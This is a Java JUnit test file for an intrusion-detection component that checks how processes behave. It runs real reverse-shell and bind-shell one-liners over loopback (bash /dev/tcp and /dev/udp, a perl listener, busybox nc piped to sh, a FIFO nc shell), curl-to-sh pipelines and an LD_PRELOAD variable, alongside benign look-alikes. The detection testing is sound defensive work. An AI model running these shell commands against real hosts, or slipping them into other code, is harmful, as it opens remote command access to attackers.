package io.totem.policy.behaviour;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.totem.policy.facts.Behaviour;
import io.totem.policy.warning.ProgramKind;
import io.totem.procfs.ProcessSample;
import io.totem.procfs.ProcessSweep;
import java.io.IOException;
import java.io.OutputStream;
import java.net.DatagramSocket;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What intruders do, done for real over the loopback, and what people do that looks like it. */
class RealBehaviourTest {

    private static final InetAddress LOOPBACK = InetAddress.getLoopbackAddress();

    private final WatchedHost host = new WatchedHost();

    @TempDir
    Path folder;

    @AfterEach
    void end() throws InterruptedException {
        host.close();
    }

    @Test
    void a_shell_with_a_connection_for_its_terminal() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, LOOPBACK)) {
            int port = server.getLocalPort();
            Process shell = bash("exec 0<>/dev/tcp/127.0.0.1/" + port + " 1>&0 2>&0; exec bash --norc");
            try (Socket _ = server.accept()) {
                assertThat(behaviour(shell.pid(), seen -> seen.connection().isPresent())
                                .connection())
                        .hasValueSatisfying(found -> {
                            assertThat(found.bothWays()).isTrue();
                            assertThat(found.connection().remotePort()).isEqualTo(port);
                            assertThat(found.connection().remote()).isEqualTo(LOOPBACK);
                            assertThat(found.connection().accepted()).isFalse();
                        });
            }
        }
    }

    @Test
    void a_shell_that_takes_its_commands_from_datagrams() throws IOException {
        InetAddress own = NetworkInterface.networkInterfaces()
                .flatMap(NetworkInterface::inetAddresses)
                .filter(address -> address instanceof Inet4Address && !address.isLoopbackAddress())
                .findFirst()
                .orElseThrow();
        try (DatagramSocket server = new DatagramSocket(0, own)) {
            int port = server.getLocalPort();
            Process shell =
                    bash("exec 0<>/dev/udp/" + own.getHostAddress() + "/" + port + " 1>&0 2>&0; exec bash --norc");
            assertThat(behaviour(shell.pid(), seen -> seen.connection().isPresent())
                            .connection())
                    .hasValueSatisfying(found -> {
                        assertThat(found.bothWays()).isTrue();
                        assertThat(found.connection().remotePort()).isEqualTo(port);
                    });
        }
    }

    @Test
    void a_shell_that_waits_for_whoever_connects() throws IOException {
        try (ServerSocket free = new ServerSocket(0, 1, LOOPBACK)) {
            int port = free.getLocalPort();
            free.close();
            Process shell = host.start(
                    "perl",
                    "-MIO::Socket::INET",
                    "-e",
                    "my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => " + port
                            + ", Listen => 1, ReuseAddr => 1); $^F = 99; my $c = $s->accept; open(STDIN, '<&', $c);"
                            + " open(STDOUT, '>&', $c); exec '/bin/sh', '-i'");
            try (Socket _ = connected(port)) {
                assertThat(behaviour(shell.pid(), seen -> seen.connection().isPresent())
                                .connection()
                                .orElseThrow()
                                .connection()
                                .remote())
                        .isEqualTo(LOOPBACK);
            }
        }
    }

    @Test
    void a_shell_fed_by_a_network_tool_straight_and_through_a_named_pipe() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 2, LOOPBACK)) {
            String tool = "busybox nc 127.0.0.1 " + server.getLocalPort();
            Process straight = bash(tool + " | sh");
            try (Socket _ = server.accept()) {
                assertThat(belowBash(straight, seen -> seen.networkTool().isPresent())
                                .networkTool())
                        .contains("nc");
            }
            Path fifo = folder.resolve("f");
            Process round = bash("mkfifo " + fifo + "; cat " + fifo + " | sh 2>&1 | " + tool + " > " + fifo);
            try (Socket _ = server.accept()) {
                assertThat(belowBash(round, seen -> seen.networkTool().isPresent())
                                .networkTool())
                        .contains("nc");
            }
        }
    }

    @Test
    void what_people_do_with_pipes_and_network_tools_is_no_finding() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 2, LOOPBACK)) {
            String tool = "busybox nc 127.0.0.1 " + server.getLocalPort();
            Process sends = bash("while sleep 1; do echo metric; done | " + tool);
            Process reads = bash(tool + " | while read -r line; do echo \"$line\"; done");
            Process local = bash("cat | sh");
            try (Socket _ = server.accept();
                    Socket _ = server.accept()) {
                await().until(() ->
                        shellsBelow(reads).size() > 1 && shellsBelow(local).size() > 1);
                ProcessSweep sweep = host.table.sweep();
                Set<Integer> shells = new HashSet<>();
                List.of(sends, reads, local).forEach(each -> shells.addAll(shellsBelow(each)));
                for (int round = 0; round < 3; round++) {
                    ProcessSweep now = host.table.sweep();
                    now.processes().stream()
                            .filter(process -> shells.contains(process.pid()))
                            .forEach(process -> assertThat(
                                            host.reader.read(process, now).behaviour())
                                    .as("%s", process.commandLine())
                                    .isEqualTo(Behaviour.NONE));
                }
                assertThat(sweep.processes()).isNotEmpty();
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cat <&5 | while read -r line; do $line 2>&5 >&5; done; true",
                "cat <&5 | sed -u s/^x// | while read -r line; do eval \"$line\"; done >&5; true",
                "while read -r -u 5 line; do eval \"$line\" >&5 2>&1; done",
                "while read -r line <&5; do eval \"$line\" >&5 2>&1; done",
                "mapfile -u 5 -n 1 lines; eval \"$lines\""
            })
    void a_shell_that_takes_its_commands_from_a_connection_beside_its_streams(String commands) throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, LOOPBACK)) {
            Process shell = bash("exec 5<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "; " + commands);
            try (Socket _ = server.accept()) {
                assertThat(behaviour(shell.pid(), seen -> seen.connection().isPresent())
                                .connection()
                                .orElseThrow()
                                .connection()
                                .remotePort())
                        .isEqualTo(server.getLocalPort());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "while sleep 60; do echo alive >&5; done",
                "tail -f /dev/null | while read -r line; do echo \"$line\" >&5; done; true",
                "sleep 60 <&5; true",
                "cat <&5 > /dev/null; true",
                "cat <&5 | grep x | cat > /dev/null; true",
                "tail -f /dev/null | sh; true"
            })
    void a_shell_that_holds_a_connection_is_not_told_what_to_do_by_it(String commands) throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, LOOPBACK)) {
            Process shell = bash("exec 5<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "; " + commands);
            try (Socket _ = server.accept()) {
                await().until(() -> shell.descendants().findAny().isPresent());
                Set<Integer> shells = shellsBelow(shell);
                for (int round = 0; round < 3; round++) {
                    assertThat(host.seen(shells, found -> found.connection().isPresent()))
                            .isEmpty();
                }
            }
        }
    }

    @Test
    void a_shell_that_runs_what_curl_brings_also_when_curl_is_over() throws IOException {
        CountDownLatch seen = new CountDownLatch(1);
        try (Web web = new Web(exchange -> {
            exchange.sendResponseHeaders(200, 0);
            try (OutputStream body = exchange.getResponseBody()) {
                body.write("sleep 60\n".getBytes(UTF_8));
                body.flush();
                seen.await();
            } catch (InterruptedException stopped) {
                Thread.currentThread().interrupt();
            }
        })) {
            Process pipeline = bash("c=curl; $c -s http://127.0.0.1:" + web.port() + "/ | sh -s; true");
            assertThat(belowBash(pipeline, found -> found.downloader().isPresent())
                            .downloader())
                    .contains("curl");
            seen.countDown();
            await().until(() -> pipeline.descendants()
                    .noneMatch(child -> child.info().command().orElse("").endsWith("/curl")));
            for (int round = 0; round < 20; round++) {
                belowBash(pipeline, found -> found.downloader().isPresent());
            }
        }
    }

    @Test
    void a_shell_whose_feeder_was_over_before_anybody_looked_is_known_by_the_text_that_started_both()
            throws IOException {
        try (Web web = new Web(exchange -> {
            byte[] body = "sleep 60\n".getBytes(UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        })) {
            Process pipeline = bash("curl -s http://127.0.0.1:" + web.port() + "/ | sh; true");
            await().until(() -> pipeline.descendants()
                    .anyMatch(child -> child.info().command().orElse("").endsWith("/sleep")));
            assertThat(belowBash(pipeline, found -> found.downloader().isPresent())
                            .downloader())
                    .contains("curl");
        }
    }

    @Test
    void of_the_environment_only_what_is_loaded_first_is_kept() throws IOException {
        ProcessBuilder builder = new ProcessBuilder("sleep", "60");
        builder.environment().put("LD_PRELOAD", folder + "/none.so");
        builder.environment().put("SECRET", "x");
        builder.redirectErrorStream(true);
        Process process = builder.start();
        host.keep(process);
        assertThat(behaviour(process.pid(), seen -> !seen.loaderVariables().isEmpty())
                        .loaderVariables())
                .containsOnlyKeys("LD_PRELOAD")
                .containsEntry("LD_PRELOAD", folder + "/none.so");
    }

    private static Socket connected(int port) {
        return await().ignoreExceptions().until(() -> new Socket(LOOPBACK, port), Socket::isConnected);
    }

    /** Of this process, when it is as expected. */
    private Behaviour behaviour(long pid, Predicate<Behaviour> expected) {
        return await().until(() -> host.seen(Set.of((int) pid), expected), Optional::isPresent)
                .orElseThrow();
    }

    /** Of one of the shells below a bash. */
    private Behaviour belowBash(Process bash, Predicate<Behaviour> expected) {
        return await().until(() -> host.seen(shellsBelow(bash), expected), Optional::isPresent)
                .orElseThrow();
    }

    private Set<Integer> shellsBelow(Process bash) {
        Set<Integer> below = WatchedHost.family(bash);
        Set<Integer> shells = new HashSet<>();
        for (ProcessSample process : host.table.sweep().processes()) {
            if (below.contains(process.pid())
                    && ProgramKind.of(process).filter(ProgramKind.SHELL::equals).isPresent()) {
                shells.add(process.pid());
            }
        }
        return shells;
    }

    private Process bash(String text) {
        return host.start("bash", "-c", text);
    }

    /** A server of the loopback. */
    private static final class Web implements AutoCloseable {

        private interface Answer {
            void to(HttpExchange exchange) throws IOException;
        }

        private final HttpServer server;

        Web(Answer answer) throws IOException {
            server = HttpServer.create(new InetSocketAddress(LOOPBACK, 0), 0);
            server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
            server.createContext("/", answer::to);
            server.start();
        }

        int port() {
            return server.getAddress().getPort();
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }
}
